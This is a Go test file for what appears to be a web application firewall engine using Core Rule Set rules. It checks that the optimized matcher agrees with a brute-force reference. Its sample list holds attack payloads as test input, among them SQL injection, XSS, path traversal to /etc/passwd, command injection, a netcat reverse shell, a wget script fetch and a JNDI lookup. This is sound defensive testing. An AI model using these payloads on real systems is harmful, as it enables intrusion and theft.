package crs

import (
	"math/rand"
	"slices"
	"strings"
	"testing"
)

// matchAll is the reference of Match: every rule of the target and level
// runs on the text, without gates or prefilters.
func (s *Set) matchAll(target Target, header, text string, maxPL int) []int {
	var ids []int
	if text == "" {
		return nil
	}
	for _, r := range s.Rules {
		if r.PL > maxPL || r.targets&target == 0 || !r.headerOK(target, header) {
			continue
		}
		t := text
		for _, tf := range r.tf {
			t = tf.apply(t)
		}
		if t == "" {
			continue
		}
		if r.lower {
			t = strings.ToLower(t)
		}
		if _, _, ok := r.eval(t, text, nil); ok {
			ids = append(ids, r.ID)
		}
	}
	slices.Sort(ids)
	return ids
}

func hitIDs(hs []Hit) []int {
	var ids []int
	for _, h := range hs {
		ids = append(ids, h.Rule.ID)
	}
	slices.Sort(ids)
	return ids
}

var soundTargets = []struct {
	t   Target
	hdr string
}{{TArgs, ""}, {TArgNames, ""}, {TCookies, ""}, {THeaders, "user-agent"}, {THeaders, "x-data"}, {THeaders, "referer"}, {TPath, ""}, {TBody, ""}, {TXML, ""}, {TFiles, ""}, {TPathFiles, ""}}

// checkSound fails when Match misses a rule matchAll finds (or reports
// one it does not).
func checkSound(t *testing.T, s *Set, v string) {
	t.Helper()
	var sc Scratch
	for _, tg := range soundTargets {
		want := s.matchAll(tg.t, tg.hdr, v, 4)
		got := hitIDs(s.Match(tg.t, tg.hdr, v, 4, &sc))
		if !slices.Equal(got, want) {
			t.Fatalf("target %d %q, text %q: Match %v, every rule %v", tg.t, tg.hdr, v, got, want)
		}
	}
}

// soundSamples: attack payloads of every class and benign values, and
// variants that take them in and out of the common bytes.
var soundSamples = []string{"1' or '1'='1", "<script>alert(1)</script>", "; cat /etc/passwd", "../../../etc/passwd", "union select 1,2,3 from users--",
	"${IFS}cat${IFS}/etc/passwd", "<img src=x onerror=alert(1)>", "$(whoami)", "`id`", "php://filter/resource=index.php", "{{7*7}}",
	"' and sleep(5)#", "javascript:alert(1)", "1;waitfor delay '0:0:5'--", "<svg/onload=confirm(1)>", "| nc -e /bin/sh 10.0.0.1 4444",
	"C:\\Windows\\win.ini", "&& ping -c 10 127.0.0.1", "eval(base64_decode('x'))", "/*!50000select*/", "admin'--", "x' || 'a'='a",
	"busybox nc 1.2.3.4", "b\"u\"sybox", "wget http://x/y.sh", "phpinfo", "system", "1 rlike 1", "select * from users where id = 1",
	"cmd.exe /c dir", "powershell -enc AAAA", "java.lang.Runtime", "${jndi:ldap://x/a}", "etc/passwd", "/proc/self/environ", ".htaccess",
	"IF(1=1,SLEEP(5),0)", "1 AND 1=1", "ORDER BY 1", "x onmouseover=alert(1)", "<a href=\"javascript:x\">", "PHNjcmlwdD4=", "\\x3cscript\\x3e",
	"billing", "50", "ehr_svc_billing_7d1f0c9a2b3e4d5f", "GA1.2.105446.1731715200", "alice@example.com", "2026-01-01T10:00:00+01:00",
	"Hello, how are you? I'd like to order 2 items (blue).", "https://example.com/a/b?c=d&e=f", "Müller", "\u212aelvin", "\u0130stanbul",
	"SELECT name FROM t", "a=b&c=d", "!@#$%^&*()_+-=[]{}|;:',.<>?/~`!@#$%^&*()", "--", "#", "/**/", "..;/", "%2e%2e%2f", "\x00\x01",
	// word texts (letters, digits, _ . : @ + = / -) and their edges
	"SELECT", "UNION", "etc/passwd", "/etc/passwd", "/bin/sh", "PHPINFO", "0x41", "1e1", "a.b.c", "=1", "/..", "./a", "a//b", "a--b", ".", "..",
	"java.lang.Runtime.getRuntime", "WEB-INF/web.xml", "boot.ini", "1=1", "x=y+z", "@@version", "ls", "LS", "id", "W", "cat/etc/shadow",
	"9999999999:9999:9999-9999=+++++@@@@////----", "a:b:c:d:e:f:g:h:i:j:k:l:m:n", "=:=:=:=:=:=:=:=:=:=:=:=:=", "Pa\u017fsw\u212aord", "x.php", "cmd.exe"}

func TestMatchSound(t *testing.T) {
	s, err := Default()
	if err != nil {
		t.Fatal(err)
	}
	r := rand.New(rand.NewSource(1))
	for _, v := range soundSamples {
		checkSound(t, s, v)
		checkSound(t, s, strings.ToUpper(v))
		checkSound(t, s, "q="+v+"&x=1")
	}
	// splices of samples: attack syntax inside benign values
	for i := 0; i < 300; i++ {
		a, b := soundSamples[r.Intn(len(soundSamples))], soundSamples[r.Intn(len(soundSamples))]
		checkSound(t, s, a[:r.Intn(len(a)+1)]+b[r.Intn(len(b)+1):])
	}
}

// FuzzMatchSound: Match finds what every rule finds, and the fast paths
// of Rule.eval give what their references give.
func FuzzMatchSound(f *testing.F) {
	for _, v := range soundSamples {
		f.Add(v)
	}
	f.Add("/etc/passwd .htaccess /ETC/SHADOW")
	s, err := Default()
	if err != nil {
		f.Fatal(err)
	}
	f.Fuzz(func(t *testing.T, v string) {
		if len(v) > 512 {
			return
		}
		checkSound(t, s, v)
		checkEvalPaths(t, s, v)
	})
}

// TestGates: what the gates say of some rules (a regression guard on the
// clause analysis).
func TestGates(t *testing.T) {
	s, err := Default()
	if err != nil {
		t.Fatal(err)
	}
	byID := map[int]*Rule{}
	for _, r := range s.Rules {
		byID[r.ID] = r
	}
	// 942430 needs twelve special characters
	if r := byID[942430]; r == nil || len(r.clauses) == 0 || r.clauses[0].n < 12 {
		t.Errorf("942430 clauses %+v", r.clauses)
	}
	// the unix command rules have long literals on common bytes
	for _, id := range []int{932230, 932235, 932236, 932250} {
		r := byID[id]
		if r == nil {
			t.Errorf("rule %d missing", id)
			continue
		}
		if c := r.tiers[tierCommon]; c.never || minLen(c.lits) < 2 {
			t.Errorf("rule %d: common-byte literals %d (shortest %d)", id, len(c.lits), minLen(c.lits))
		}
	}
	t.Logf("%+v", s.Stats)
}

// TestMatchAllocs checks Match's promise: no allocation on texts of word
// bytes once the scratch has grown.
func TestMatchAllocs(t *testing.T) {
	s, err := Default()
	if err != nil {
		t.Fatal(err)
	}
	var sc Scratch
	for _, v := range []string{"billing", "ehr_svc_billing_7d1f0c9a2b3e4d5f", "42", "SELECT"} {
		for _, tg := range []Target{TArgs, TCookies, TPath} {
			s.Match(tg, "", v, 2, &sc)
			if n := testing.AllocsPerRun(100, func() { s.Match(tg, "", v, 2, &sc) }); n != 0 {
				t.Errorf("Match(%v, %q): %v allocations", tg, v, n)
			}
		}
	}
}

// pmSpanRef is the reference of an @pm rule's span: the first phrase in
// list order found in the lower-cased text, at its first occurrence.
func pmSpanRef(r *Rule, t string) (int, int, bool) {
	lt := lowerASCII(t)
	for _, p := range r.lits {
		if i := strings.Index(lt, p); i >= 0 {
			return i, i + len(p), true
		}
	}
	return 0, 0, false
}

// checkEvalPaths fails when a fast path of Rule.eval differs from its
// reference: the @pm automaton from trying the phrases in turn, the
// capture rules' DFA pre-check from the submatch search alone.
func checkEvalPaths(t *testing.T, s *Set, v string) {
	t.Helper()
	for _, r := range s.Rules {
		switch {
		case r.op == opPm && len(r.links) == 0:
			st, en, ok := r.eval(v, v, nil)
			ws, we, wok := pmSpanRef(r, v)
			if ok != wok || ok && (st != ws || en != we) {
				t.Fatalf("rule %d on %q: span %d-%d %v, phrases in turn %d-%d %v", r.ID, v, st, en, ok, ws, we, wok)
			}
		case r.op == opRx && r.capture && len(r.links) > 0:
			_, _, ok := r.eval(v, v, nil)
			m := r.re.FindStringSubmatchIndex(v)
			if m == nil && ok {
				t.Fatalf("rule %d on %q: matched, but the submatch search finds nothing", r.ID, v)
			}
		}
	}
}

func TestEvalPaths(t *testing.T) {
	s, err := Default()
	if err != nil {
		t.Fatal(err)
	}
	n := 0
	for _, r := range s.Rules {
		if r.op == opPm && r.pm != nil {
			n++
			// every phrase, alone, in upper case and after another
			for i, p := range r.lits {
				checkEvalPaths(t, s, p)
				checkEvalPaths(t, s, "x "+strings.ToUpper(p)+" "+r.lits[len(r.lits)-1-i])
				if i > 20 {
					break
				}
			}
		}
	}
	if n == 0 {
		t.Fatal("no @pm rule has an automaton")
	}
	for _, v := range soundSamples {
		checkEvalPaths(t, s, v)
		checkEvalPaths(t, s, "q="+v+" and "+strings.ToUpper(v))
	}
}
